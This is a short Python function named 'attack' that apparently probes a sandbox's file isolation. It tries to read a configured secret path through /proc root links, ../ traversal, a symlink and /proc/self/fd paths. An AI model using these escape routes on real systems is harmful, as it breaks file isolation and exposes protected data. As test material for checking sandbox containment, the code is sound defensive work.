"""Walks out by the side doors of a file tree."""


def attack(config):
    secret = config["secret"]
    doors = ["/proc/1/root", "/proc/self/root", f"/proc/{os.getppid()}/root", "/proc/self/cwd/../../../..", "/sheaf/code/../../..", "/data/../.."]
    climbs = [tried(read, door + secret) for door in doors]
    os.symlink(secret, "link")
    return [text for text in [*climbs, tried(read, "link"), tried(read, f"/proc/self/fd/../../..{secret}")] if "secret" in text]
